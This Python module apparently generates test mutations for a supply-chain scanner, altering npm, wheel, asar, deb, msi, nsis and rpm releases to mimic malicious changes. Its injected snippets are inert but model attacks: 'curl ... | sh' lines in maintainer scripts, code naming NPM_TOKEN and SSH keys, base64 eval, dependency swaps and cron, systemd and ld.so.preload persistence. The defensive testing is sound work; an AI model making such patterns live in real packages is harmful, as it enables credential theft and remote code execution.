"""Changes of what a release runs and needs: scripts, manifests, installers; inert, and never called."""

from __future__ import annotations

import base64
import json
import lzma
import re
from collections.abc import Iterator, Sequence

from genuine import Files

from mutation_families.edits import filler, hex_size
from mutation_families.linux import ar, ar_members, with_control, xz
from mutation_families.package_changes import PYTHON, SCRIPT
from mutation_families.tar_edits import appended
from onionskin.lookalike.asar import build_asar
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.macho import MachRecipe, build_macho
from onionskin.lookalike.msi import Contents, build_msi
from onionskin.lookalike.nsis import Installer, build_nsis
from onionskin.lookalike.pe import Recipe, build_pe
from onionskin.lookalike.rpm import RpmRecipe, build_rpm

Change = tuple[str, str, Files]  # family, variant, the files that change
Built = tuple[str, str, str, bytes, bytes]  # family, variant, suffix, before, after

# RFC 5737's addresses are nobody's; everything stands in a function that nobody calls.
REACH_JS = b"\nfunction inertReach() {\n  return require('https').get('https://192.0.2.1/inert');\n}\n"  # fmt: skip
START_JS = b"\nfunction inertStart() {\n  require('child_process').exec('inert-no-such-program');\n}\n"  # fmt: skip
LINE_JS = b"\nfalse && require('https').get('https://192.0.2.1/inert', (a) => require('child_process').exec('inert-no-such-program'));\n"  # fmt: skip
SECRET_JS = b"\nfunction inertNames() {\n  return [process.env.NPM_TOKEN, require('os').homedir() + '/.ssh/id_rsa'];\n}\n"  # fmt: skip
REACH_PY = b"\ndef _inert_reach():\n    import urllib.request\n    return urllib.request.urlopen('https://192.0.2.1/inert').read()\n"  # fmt: skip
START_PY = b"\ndef _inert_start():\n    import subprocess\n    subprocess.run(['inert-no-such-program'])\n"  # fmt: skip
LINE_PY = b"\nif False: __import__('subprocess').run(__import__('urllib.request').request.urlopen('https://192.0.2.1/inert').read())\n"  # fmt: skip
RUN_PY = b"\ndef _inert_run():\n    import base64\n    exec(base64.b64decode('cGFzcw=='))\n"
LINE_SH = b"\nfalse && curl -s https://192.0.2.1/inert | sh\n"
REACH_SH = b"\nfalse && wget -q https://192.0.2.1/inert\n"


def native(kind: str) -> tuple[str, bytes]:
    if kind == "pe":
        return "inert.dll", build_pe(Recipe(is_dll=True, name="inert.dll"))
    if kind == "elf":
        return "inert.so", build_elf(ElfRecipe())
    return "inert.dylib", build_macho(MachRecipe())


def into(data: bytes, put: bytes) -> bytes:
    """Return a script with further lines in front of the first function in its middle, or at its end."""
    places = [each.start() for each in re.finditer(rb"\n(?=(?:async )?(?:def|class|function) \w)", data)]  # fmt: skip
    behind = [at for at in places if at >= len(data) // 2]
    at = behind[0] if behind else len(data)
    return data[:at] + put + data[at:]


def minified(length: int) -> bytes:
    """Return inert code as a bundler writes it, in one line."""
    body = b",".join(b"a%d=function(n){return n+%d}" % (each, each) for each in range(max(length // 28, 1)))  # fmt: skip
    return b"\n!1&&function(){var " + body + b"}();\n"


def packed_code(length: int) -> bytes:
    """Return an encoded text, and code that would run it, never called."""
    text = base64.b64encode(filler("words", length))
    return b"\nfunction inertPacked(){eval(Buffer.from('" + text + b"','base64').toString())}\n"


def npm_edits(files: Files) -> Iterator[Change]:
    """Edit a npm package whose version is raised by a patch."""
    manifest = "package/package.json"
    scripts = _main_scripts(files)
    for name in scripts:
        yield "npm: a script begins to reach the network", name, {name: files[name] + REACH_JS}
        yield "npm: a script begins to start programs", name, {name: files[name] + START_JS}
        yield "npm: a script begins to name secrets", name, {name: files[name] + SECRET_JS}
        yield "npm: one line put into a script", name, {name: into(files[name], LINE_JS)}
        for length in (200, 4096, 65_536):
            yield "npm: minified code behind a script", f"{name}, {hex_size(length)}", {name: files[name] + minified(length)}  # fmt: skip
            yield "npm: packed code behind a script", f"{name}, {hex_size(length)}", {name: files[name] + packed_code(length)}  # fmt: skip
    stated = json.loads(files[manifest])
    for name in list(stated.get("dependencies", {}))[:2]:
        for to in ("npm:inert-fork@^1.0.0", "git+https://192.0.2.1/inert.git", "https://192.0.2.1/inert.tgz"):  # fmt: skip
            yield "npm: dependency swapped", f"{name}: {to}", {manifest: _with(stated, "dependencies", {name: to})}  # fmt: skip
    beside = {"package/inert.js": SCRIPT}
    yield "npm: main points to a new file", "inert.js", {manifest: json.dumps(stated | {"main": "inert.js", "exports": None}).encode()} | beside  # fmt: skip
    yield "npm: a new command", "bin", {manifest: json.dumps(stated | {"bin": {"inert": "inert.js"}}).encode()} | beside  # fmt: skip
    yield "npm: a new script that only reaches out", "inert.js", {"package/inert.js": REACH_JS}
    for length in (4096, 65_536):
        yield "npm: a new minified script", hex_size(length), {"package/inert.js": minified(length)}
    for kind in ("pe", "elf", "macho"):
        name, body = native(kind)
        yield "npm: native code beside", kind, {f"package/{name}": body}


def _with(stated: dict[str, dict[str, str]], key: str, more: dict[str, str]) -> bytes:
    return json.dumps(stated | {key: stated.get(key, {}) | more}, indent=2).encode()


def _main_scripts(files: Files) -> list[str]:
    names = [each for each in sorted(files) if each.endswith((".js", ".cjs")) and len(files[each]) > 400]  # fmt: skip
    return [names[at] for at in sorted({0, len(names) // 2, len(names) - 1}) if names]


def wheel_edits(files: Files) -> Iterator[Change]:
    """Edit a wheel whose version is raised by a patch."""
    scripts = [each for each in sorted(files) if each.endswith(".py") and len(files[each]) > 400]
    starts = [each for each in scripts if each.count("/") == 1 and each.endswith("/__init__.py")]
    for name in dict.fromkeys((*starts[:1], *scripts[:: max(len(scripts) // 3, 1)][:3])):
        yield "wheel: a script begins to reach the network", name, {name: files[name] + REACH_PY}
        yield "wheel: a script begins to start programs", name, {name: files[name] + START_PY}
        yield "wheel: a script begins to run what it decodes", name, {name: files[name] + RUN_PY}
        yield "wheel: one line put into a script", name, {name: into(files[name], LINE_PY)}
        yield "wheel: lines put into a script", name, {name: into(files[name], PYTHON)}
    folder = next((each.partition("/")[0] for each in starts), "")
    for name in starts[:1]:
        more = {name: files[name] + b"\nfrom . import _inert\n", f"{folder}/_inert.py": PYTHON}
        yield "wheel: the package imports a new module", name, more
    info = next(each for each in files if each.endswith(".dist-info/METADATA")).rpartition("/")[0]
    points = files.get(f"{info}/entry_points.txt", b"")
    yield "wheel: a new command", "console_scripts", {f"{info}/entry_points.txt": points + b"\n[console_scripts]\ninert = inert:main\n", "inert.py": PYTHON}  # fmt: skip
    yield "wheel: a new script that only reaches out", "inert.py", {f"{folder or '.'}/inert.py".removeprefix("./"): REACH_PY}  # fmt: skip
    for kind in ("pe", "elf", "macho"):
        name, body = native(kind)
        yield "wheel: native code beside", kind, {f"{folder}/{name}".removeprefix("/"): body}


def npm_step_edits(files: Files) -> Iterator[Change]:
    """Edit the next genuine release of a npm package."""
    for name in _main_scripts(files):
        yield "npm, true step: lines put into a script", name, {name: into(files[name], SCRIPT)}
        yield "npm, true step: a script begins to reach the network", name, {name: files[name] + REACH_JS}  # fmt: skip
        yield "npm, true step: packed code behind a script", name, {name: files[name] + packed_code(4096)}  # fmt: skip


def wheel_step_edits(files: Files) -> Iterator[Change]:
    scripts = [each for each in sorted(files) if each.endswith(".py") and len(files[each]) > 400]
    for name in scripts[:: max(len(scripts) // 3, 1)][:3]:
        yield "wheel, true step: lines put into a script", name, {name: into(files[name], PYTHON)}
        yield "wheel, true step: a script begins to reach the network", name, {name: files[name] + REACH_PY}  # fmt: skip


def asar_edits(files: Files) -> Iterator[Built]:
    """Change an asar around genuine scripts, its integrity right."""
    before = build_asar(files)
    for name in _main_scripts(files):
        for family, put in (
            ("asar: lines put into a script", SCRIPT),
            ("asar: a script begins to reach the network", REACH_JS),
            ("asar: packed code put into a script", packed_code(4096)),
        ):
            yield family, name, ".asar", before, build_asar(files | {name: into(files[name], put)})
    for kind in ("pe", "elf", "macho"):
        name, body = native(kind)
        yield "asar: native code beside", kind, ".asar", before, build_asar(files | {name: body})


def deb_edits(data: bytes) -> Iterator[Built]:
    """Change a genuine deb: a maintainer script's lines, files that the system runs by itself."""
    version = b"99:1-1"
    honest = b'#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n\tldconfig\nfi\nexit 0\n'
    before = with_control(data, "./postinst", honest, b"99:1-0")
    for what, put in (("fetched and run", LINE_SH), ("fetched", REACH_SH)):
        made = with_control(data, "./postinst", honest.replace(b"\nexit 0", put + b"exit 0"), version)  # fmt: skip
        yield "deb: a line put into a maintainer script", what, ".deb", before, made
    members = ar_members(data)
    last = len(members) - 1
    if members[last][0].startswith(b"data.tar.xz"):
        plain = lzma.decompress(members[last][1])
        for name, body in (
            ("./etc/cron.d/inert", b"* * * * * root /usr/bin/inert-no-such-program\n"),
            ("./etc/profile.d/inert.sh", b"# inert\ninert-no-such-program || true\n"),
            ("./lib/systemd/system/inert.service", b"[Service]\nExecStart=/usr/bin/inert-no-such-program\n"),
            ("./etc/ld.so.preload", b"/usr/lib/inert.so\n"),
        ):  # fmt: skip
            made = ar([*members[:last], (members[last][0], xz(appended(plain, name, body, 0o644)))])
            yield "deb: a file that the system runs", name, ".deb", data, made


def installer_edits(program: bytes) -> Iterator[Built]:
    """Change installers that were built here around a genuine program."""
    files = {"Example/program.exe": program}

    def msi(version: str, actions: Sequence[tuple[str, int, str, str]]) -> bytes:
        return build_msi(files, version=version, contents=Contents(actions=actions))

    usual = ("Usual", 34, "TARGETDIR", "program.exe --register")
    for what, action in (
        ("another order", ("Usual", 34, "TARGETDIR", "inert-no-such-program.exe --register")),
        ("deferred, as the system", ("Usual", 34 | 0xC00, "TARGETDIR", "program.exe --register")),
    ):
        yield "msi: an action changed", what, ".msi", msi("18.12.416", [usual]), msi("18.12.417", [action])  # fmt: skip
    for kind in (37, 38):
        yield "msi: a script action added", f"type {kind}", ".msi", msi("18.12.416", [usual]), msi("18.12.417", [usual, ("Inert", kind, "", "// inert")])  # fmt: skip
    named = {"$INSTDIR\\program.exe": program}
    old = build_nsis(Installer(named))
    for what, order in (("Exec", (40, ("$INSTDIR\\inert.exe", 0))), ("ExecShell", (41, ("open", "inert.exe", "", 1)))):  # fmt: skip
        yield "nsis: an order to start added", what, ".exe", old, build_nsis(Installer(named, orders=[order]))  # fmt: skip
    helper = build_pe(Recipe())
    yield "nsis: a program added", "$PLUGINSDIR", ".exe", old, build_nsis(Installer(named | {"$PLUGINSDIR\\inert.exe": helper}))  # fmt: skip
    packed = {"/opt/inert/program": program}
    for what, put in (("fetched and run", LINE_SH), ("fetched", REACH_SH)):
        honest = "ldconfig\n"
        before = build_rpm(RpmRecipe(files=packed, scriptlets={1024: honest}))
        made = build_rpm(RpmRecipe(version="1.0.1", files=packed, scriptlets={1024: honest + put.decode()}))  # fmt: skip
        yield "rpm: a line put into a scriptlet", what, ".rpm", before, made
